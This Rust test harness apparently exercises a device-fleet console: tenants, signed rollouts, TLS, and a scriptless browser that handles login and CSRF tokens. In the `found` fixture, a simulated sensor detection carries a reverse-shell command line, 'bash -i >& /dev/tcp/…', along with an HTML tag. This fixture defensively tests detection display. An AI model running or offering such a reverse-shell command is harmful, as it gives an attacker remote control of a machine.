//! An engine with devices of two customers and a rollout, its console on a free port, and browsers without scripts.

use reqwest::{Client, Response, StatusCode, redirect::Policy};
use rustls::{
    ClientConfig, RootCertStore,
    pki_types::{CertificateDer, pem::PemObject},
};
use staffel_console::{
    Settings,
    accounts::{self, AccountsError},
    oidc::Oidc,
    sessions::Lifetime,
};
use staffel_core::{
    conditions::{Authorisation, GateAttestation, Unit},
    ids::{DeviceId, Digest, Share},
    profile::{CeilingStep, ProfileName},
    release::{Kind, StateCompatibility},
};
use staffel_server::{
    api::{Caller, Role, StartRollout, TokenRequest},
    ca::Ca,
    config::EdgeConfig,
    edge::EdgeError,
    engine::{Engine, EngineConfig, now_ms},
    tls,
};
use staffel_trust::{
    statement::{
        Envelope, SigningKey,
        keyring::{Keyring, RoleKeys},
        predicate::{File, Gate, Headed, Header, Release, sign},
    },
    wire::{Attributes, CheckIn, Enrol},
};
use std::{collections::BTreeMap, net::SocketAddr, path::Path, time::Duration};
use tokio::{sync::oneshot, task::JoinHandle};

/// Nothing here takes this long unless it hangs.
pub const PATIENCE: Duration = Duration::from_secs(120);
pub const PASSWORD: &str = "correct horse battery";

pub struct World {
    pub dir: tempfile::TempDir,
    pub engine: Engine,
    pub address: SocketAddr,
    stop: Option<oneshot::Sender<()>>,
    serving: Option<JoinHandle<Result<(), EdgeError>>>,
}

pub fn key(n: u8) -> SigningKey {
    SigningKey::from_seed(&[n; 32])
}

fn open_engine(dir: &Path) -> Engine {
    let role = |keys: &[u8], threshold| RoleKeys { keys: keys.iter().map(|&n| key(n).public()).collect(), threshold };
    let keyring = Keyring {
        version: 1,
        root: role(&[1], 1),
        release: role(&[2], 1),
        gate: role(&[3], 1),
        releasers: role(&[4, 5], 2),
        online: role(&[6], 1),
        operators: role(&[7, 10], 1),
        witnesses: Vec::new(),
    };
    Engine::open(EngineConfig {
        data_dir: dir.to_owned(),
        keyrings: vec![sign(&keyring, &[&key(1)])],
        online_key: key(6),
        log_signer: staffel_store::LogSigner::from_seed("staffel.test/log", &[8; 32]).unwrap(),
        witnesses: Vec::new(),
        idle_cadence_ms: 60_000,
        frontier_lifetime_ms: 60_000,
        tick_ms: 50,
        recovery: Default::default(),
    })
    .unwrap()
}

pub fn operator() -> Caller {
    Caller { name: "setup".into(), role: Role::Releaser, tenant: None }
}

impl World {
    /// A console with the usual lifetimes.
    pub async fn new() -> World {
        World::with(Lifetime::default()).await
    }

    pub async fn with(lifetime: Lifetime) -> World {
        World::built(lifetime, None).await
    }

    pub async fn built(lifetime: Lifetime, oidc: Option<Oidc>) -> World {
        let dir = tempfile::tempdir().unwrap();
        let edge = EdgeConfig {
            listen: "127.0.0.1:0".parse().unwrap(),
            data_dir: dir.path().to_owned(),
            ..EdgeConfig::default()
        };
        Ca::init(&edge.tls_dir(), &["127.0.0.1".into(), "localhost".into()]).unwrap();
        let engine = open_engine(&dir.path().join("engine"));
        let settings = Settings { data_dir: dir.path().to_owned(), lifetime, oidc };
        let (stop, stopped) = oneshot::channel::<()>();
        let (bound, address) = oneshot::channel();
        let serving = {
            let engine = engine.clone();
            tokio::spawn(async move {
                let stopped = async {
                    let _ = stopped.await;
                };
                staffel_console::serve(engine, &settings, edge, stopped, |address| bound.send(address).unwrap()).await
            })
        };
        World { address: address.await.unwrap(), dir, engine, stop: Some(stop), serving: Some(serving) }
    }

    /// Two customers, `clinic` and `bakery`, with devices of telling names; one release under way; a case each.
    pub async fn with_fleet() -> World {
        let world = World::new().await;
        for (tenant, site, name) in [
            ("clinic", "ward", "clinic-pc-1"),
            ("clinic", "ward", "clinic-pc-2"),
            ("bakery", "backstube", "bakery-till-1"),
            ("bakery", "backstube", "bakery-till-2"),
        ] {
            world.device(tenant, site, name).await;
        }
        world.rollout().await;
        world
    }

    /// A device that has checked in once.
    pub async fn device(&self, tenant: &str, site: &str, name: &str) -> DeviceId {
        let request = TokenRequest { tenant: tenant.into(), site: site.into(), hours: None };
        let token = self.engine.token(&operator(), request).await.unwrap().token;
        let enrol = Enrol {
            token,
            csr_pem: String::new(),
            name: name.into(),
            attributes: Attributes { os_build: "debian-12".into(), hardware_model: "box".into() },
        };
        let (device, ..) = self.engine.enrol(&enrol, name.as_bytes()).await.unwrap();
        self.check_in(device, serde_json::json!({ "mode": "normal" })).await;
        device
    }

    pub async fn check_in(&self, device: DeviceId, mode: serde_json::Value) {
        let check_in: CheckIn = serde_json::from_value(serde_json::json!({ "boot_id": "1", "mode": mode })).unwrap();
        self.engine.check_in(device, check_in).await.unwrap();
    }

    /// The sensor of a device found an attack and was ended.
    pub async fn found(&self, device: &str) {
        let index = self.engine.device_why(&operator(), device).unwrap().device.device;
        let sent = serde_json::json!({ "stream": "s", "lost": 2, "findings": [
            {
                "number": 1, "kind": "match", "rule": "r-1", "title": "Reverse <b>shell", "severity": "critical",
                "class": "process_creation", "pack": "linux", "version": 3, "tags": ["attack.t1059.004"],
                "fields": { "CommandLine": "bash -i >& /dev/tcp/198.51.100.7/443", "User": "www-data" },
                "count": 3, "first_ms": now_ms() - 60_000, "last_ms": now_ms(),
            },
            {
                "number": 2, "kind": "sensor", "trouble": "killed", "severity": "high", "detail": "signal 9 by uid 0",
                "count": 1, "first_ms": now_ms(), "last_ms": now_ms(),
            },
        ] });
        self.engine.detections(index, serde_json::from_value(sent).unwrap()).await.unwrap();
    }

    /// Starts a rollout of a release with one file.
    pub async fn rollout(&self) -> u64 {
        let now = now_ms();
        let release = Release {
            name: "till".into(),
            version: "2.1".into(),
            sequence: 1,
            kind: Kind::Content,
            security_floor: 0,
            state: StateCompatibility::None,
            files: vec![File { path: "rules".into(), sha256: Digest::of(b"rules"), size: 5, executable: false }],
            service: None,
            probes: Vec::new(),
            supplier: "Acme Tills".into(),
        };
        let release: Envelope = sign(&release, &[&key(2)]);
        let digest = release.digest().unwrap();
        let header = Header { issued_ms: now, expires_ms: u64::MAX, ..Header::default() };
        let gate = Gate {
            result: "PASSED".into(),
            configuration: Vec::new(),
            passed_tests: vec!["starts as on a device".into()],
            failed_tests: Vec::new(),
            header: header.clone(),
            attestation: GateAttestation {
                release: digest,
                passed: true,
                consumers: Vec::new(),
                checks: Vec::new(),
                waived: None,
                signers: 0,
            },
        };
        let next = self.engine.next_rollout(&operator()).unwrap();
        let authorisation = Authorisation {
            rollout: next.rollout,
            release: digest,
            start_ms: now,
            not_after_ms: now + 3_600_000,
            profile: ProfileName::Demo,
            ceiling: vec![CeilingStep { age_ms: 0, share: Share::ALL }],
            exposure_budget: None,
            log_root: next.log_root,
            unit: Unit::Device,
            supersedes: None,
            signers: 0,
        };
        let start = StartRollout {
            release,
            gate: sign(&gate, &[&key(3)]),
            authorisation: sign(&Headed { header, body: authorisation }, &[&key(4), &key(5)]),
        };
        self.engine.start_rollout(&operator(), start).await.unwrap().rollout
    }

    pub fn url(&self, path: &str) -> String {
        format!("https://{}{path}", self.address)
    }

    /// Somebody with a browser that has no scripts and keeps no cookies by itself.
    pub fn stranger(&self) -> Browser {
        let mut roots = RootCertStore::empty();
        let root = Ca::server_root_path(&self.dir.path().join("tls"));
        roots.add(CertificateDer::from_pem_file(root).unwrap()).unwrap();
        let tls = ClientConfig::builder_with_provider(tls::provider())
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_root_certificates(roots)
            .with_no_client_auth();
        let client = Client::builder()
            .tls_backend_preconfigured(tls)
            .redirect(Policy::none())
            .timeout(PATIENCE)
            .build()
            .unwrap();
        Browser { client, base: self.url(""), cookies: BTreeMap::new() }
    }

    pub fn account(&self, name: &str, role: Role, tenant: Option<&str>) -> Result<(), AccountsError> {
        accounts::add(self.dir.path(), name, role, tenant, PASSWORD)
    }

    /// Somebody who has just logged in.
    pub async fn person(&self, name: &str, role: Role, tenant: Option<&str>) -> Browser {
        self.account(name, role, tenant).unwrap();
        let mut browser = self.stranger();
        let answer = browser.log_in(name, PASSWORD).await;
        assert_eq!(answer.status(), StatusCode::SEE_OTHER, "{name} can log in");
        browser
    }

    /// What the log says about refusals: who, what, why.
    pub fn refusals(&self) -> Vec<(Option<String>, String, String)> {
        let entries = self.engine.log_entries(0, 1_000).unwrap();
        let records = entries.as_array().unwrap().iter().filter(|entry| entry["kind"] == "access.refused");
        let text = |value: &serde_json::Value| value.as_str().map(String::from);
        records
            .map(|entry| {
                let payload = &entry["payload"];
                (text(&payload["who"]), text(&payload["what"]).unwrap(), text(&payload["why"]).unwrap())
            })
            .collect()
    }

    pub async fn stop(&mut self) {
        let _ = self.stop.take().unwrap().send(());
        tokio::time::timeout(PATIENCE, self.serving.take().unwrap()).await.expect("it stops").unwrap().unwrap();
    }
}

pub struct Browser {
    client: Client,
    base: String,
    pub cookies: BTreeMap<String, String>,
}

impl Browser {
    fn cookie_line(&self) -> String {
        self.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("; ")
    }

    fn keep(&mut self, answer: &Response) {
        for line in answer.headers().get_all("set-cookie") {
            let (pair, rest) = line.to_str().unwrap().split_once(';').unwrap();
            let (name, value) = pair.split_once('=').unwrap();
            if rest.contains("Max-Age=0") {
                self.cookies.remove(name);
            } else {
                self.cookies.insert(name.into(), value.into());
            }
        }
    }

    pub async fn get(&mut self, path: &str) -> Response {
        self.ask(path, &[]).await
    }

    pub async fn ask(&mut self, path: &str, headers: &[(&str, &str)]) -> Response {
        let mut request = self.client.get(format!("{}{path}", self.base)).header("cookie", self.cookie_line());
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let answer = request.send().await.unwrap();
        self.keep(&answer);
        answer
    }

    /// A page that must be there.
    pub async fn page(&mut self, path: &str) -> String {
        let answer = self.get(path).await;
        assert_eq!(answer.status(), StatusCode::OK, "{path}");
        answer.text().await.unwrap()
    }

    pub async fn post(&mut self, path: &str, fields: &[(&str, &str)]) -> Response {
        let request = self.client.post(format!("{}{path}", self.base)).header("cookie", self.cookie_line());
        let answer = request.form(fields).send().await.unwrap();
        self.keep(&answer);
        answer
    }

    /// Sends a form as its page has it, with the token that stands there.
    pub async fn submit(&mut self, from: &str, to: &str, fields: &[(&str, &str)]) -> Response {
        let csrf = token(&self.page(from).await);
        let mut all = vec![("csrf", csrf.as_str())];
        all.extend(fields);
        self.post(to, &all).await
    }

    pub async fn log_in(&mut self, name: &str, password: &str) -> Response {
        self.submit("/login", "/login", &[("name", name), ("password", password), ("next", "/")]).await
    }
}

/// The token of the first form of a page.
pub fn token(page: &str) -> String {
    let rest = page.split("name=\"csrf\" value=\"").nth(1).expect("a form with a token");
    rest.split('"').next().unwrap().to_string()
}
